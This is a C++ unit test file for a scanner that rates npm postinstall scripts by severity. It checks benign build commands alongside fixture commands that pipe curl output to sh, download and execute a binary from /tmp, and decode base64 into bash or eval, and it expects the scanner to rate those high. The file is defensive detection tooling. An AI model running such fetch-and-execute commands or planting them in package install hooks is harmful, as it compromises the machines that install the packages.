#include <gtest/gtest.h>

#include "checks/npm_test_facts.h"

namespace deminer {
extern const Check kNpmInstallScript;
namespace {

struct ScriptCase {
  const char* what;
  const char* command;
  Severity severity;
};

class NpmInstallScriptTest : public ::testing::TestWithParam<ScriptCase> {};

TEST_P(NpmInstallScriptTest, RatesByWhatItRuns) {
  const ScriptCase& c = GetParam();
  NpmProject project = MakeProject();
  NpmPackage p = MakePackage("evil", "1.0.0", {"web@2.0.0", "evil@1.0.0"});
  project.scripts.push_back(MakeScript(p, "postinstall", c.command));
  project.packages.push_back(p);
  const auto out = RunOnProject(kNpmInstallScript, project);
  ASSERT_EQ(out.size(), 1u) << c.what;
  EXPECT_EQ(out[0].severity, c.severity) << c.what << ": " << out[0].evidence.dump();
  EXPECT_EQ(out[0].subject, "evil@1.0.0 in /srv/app runs a postinstall script");
  EXPECT_EQ(out[0].evidence["command"], c.command);
  EXPECT_EQ(out[0].evidence["via"], nlohmann::ordered_json({"web@2.0.0", "evil@1.0.0"}));
  EXPECT_EQ(out[0].path, "/srv/app/node_modules/evil/package.json");
  EXPECT_EQ(out[0].line, 5);
}

INSTANTIATE_TEST_SUITE_P(
    Commands, NpmInstallScriptTest,
    ::testing::Values(
        ScriptCase{"node-gyp", "node-gyp rebuild", Severity::kLow},
        ScriptCase{"install.js", "node install.js", Severity::kLow},
        ScriptCase{"prebuild", "prebuild-install || node-gyp rebuild", Severity::kLow},
        ScriptCase{"node-gyp-build", "node-gyp-build", Severity::kLow},
        ScriptCase{"husky", "husky install", Severity::kLow},
        ScriptCase{"curl pipe sh", "curl -s http://127.0.0.1:9/x | sh", Severity::kHigh},
        ScriptCase{"wget chmod",
                   "wget -q -O /tmp/.x http://198.51.100.7/x && chmod +x /tmp/.x && /tmp/.x",
                   Severity::kHigh},
        ScriptCase{"base64", "echo aGVsbG8= | base64 -d | bash", Severity::kHigh},
        ScriptCase{"node -e atob", "node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\"",
                   Severity::kHigh},
        ScriptCase{"sh -c", "sh -c 'cd native && make'", Severity::kMedium},
        ScriptCase{"tmp", "cp build/tool /tmp/tool", Severity::kMedium},
        ScriptCase{"node -e", "node -e \"require('./setup')\"", Severity::kMedium},
        ScriptCase{"powershell", "powershell -File setup.ps1", Severity::kMedium}),
    [](const auto& param_info) {
      std::string n = param_info.param.what;
      for (char& ch : n)
        if (!std::isalnum(static_cast<unsigned char>(ch))) ch = '_';
      return n;
    });

TEST(NpmInstallScriptCheckTest, RootScriptsAreNotDependencies) {
  NpmProject project = MakeProject();
  NpmScript s;
  s.package = "app";
  s.event = "prepare";
  s.command = "husky install";
  s.root = true;
  project.scripts.push_back(s);
  EXPECT_TRUE(RunOnProject(kNpmInstallScript, project).empty());
}

TEST(NpmInstallScriptCheckTest, LockfileOnlyScriptIsLowWithTheLockfileLine) {
  NpmProject project = MakeProject();
  project.node_modules.clear();
  NpmPackage p = MakePackage("esbuild", "0.20.0");
  p.has_install_script = true;
  p.line = 42;
  project.packages.push_back(p);
  project.packages.push_back(MakePackage("quiet", "1.0.0"));
  const auto out = RunOnProject(kNpmInstallScript, project);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].severity, Severity::kLow);
  EXPECT_EQ(out[0].path, "/srv/app/package-lock.json");
  EXPECT_EQ(out[0].line, 42);
  EXPECT_NE(out[0].subject.find("esbuild@0.20.0"), std::string::npos);
}

}  // namespace
}  // namespace deminer
